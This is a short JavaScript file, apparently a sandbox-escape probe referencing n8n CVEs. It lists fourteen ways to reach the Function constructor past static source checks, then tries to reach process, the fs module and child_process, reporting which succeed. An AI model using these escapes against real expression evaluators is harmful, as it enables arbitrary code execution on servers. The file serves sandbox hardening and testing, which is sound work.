// Tries: names that no check of the source sees: with, template literals, destructuring, comments, computed keys (n8n, CVE-2025-68613, CVE-2026-25049, CVE-2026-1470)
// Contained by: nothing
// With: look
function attack() {
  const makers = {
    with: () => Function('with (function () {}) { return constructor }')(),
    'a template': () => (() => 0)[`constr${''}uctor`],
    destructuring: () => {
      const { constructor: make } = () => 0
      return make
    },
    'a computed key': () => {
      const { [['constructor'].join()]: make } = () => 0
      return make
    },
    escapes: () => eval('(() => 0).c\\u006fnstructor'),
    comments: () => eval('(() => 0)/**/./**/constructor'),
    'an arrow': () => ((...all) => all[0].constructor)(() => 0),
    'this of a function': () => function () { return this }.constructor,
    'a tagged template': () => ((strings) => strings.raw.constructor.constructor)`x`,
    reflection: () => Reflect.get(() => 0, 'constructor'),
    'an async function': () => (async () => 0).constructor,
    'a generator': () => function* () {}.constructor,
    'a bound function': () => (() => 0).bind().constructor,
    'a class field': () => new (class { make = Function })().make,
  }
  for (const [name, of] of Object.entries(makers)) {
    let make
    try {
      make = of()
    } catch {
      continue
    }
    look(name, make)
    for (const expression of ['process', 'this.process', 'globalThis.process', 'require("fs")', 'process.mainModule.require("child_process")', 'process.binding("fs")', 'this.constructor.constructor("return process")()', 'module', 'global.process']) {
      try {
        const value = make(`return ${expression}`)()
        value?.catch?.(() => 0)
        if (value !== undefined && typeof value.then !== 'function' && typeof value.next !== 'function') reached.push(`${name}: ${expression}`)
      } catch {}
    }
  }
  return reached.length > 0 ? reached : 'nothing'
}
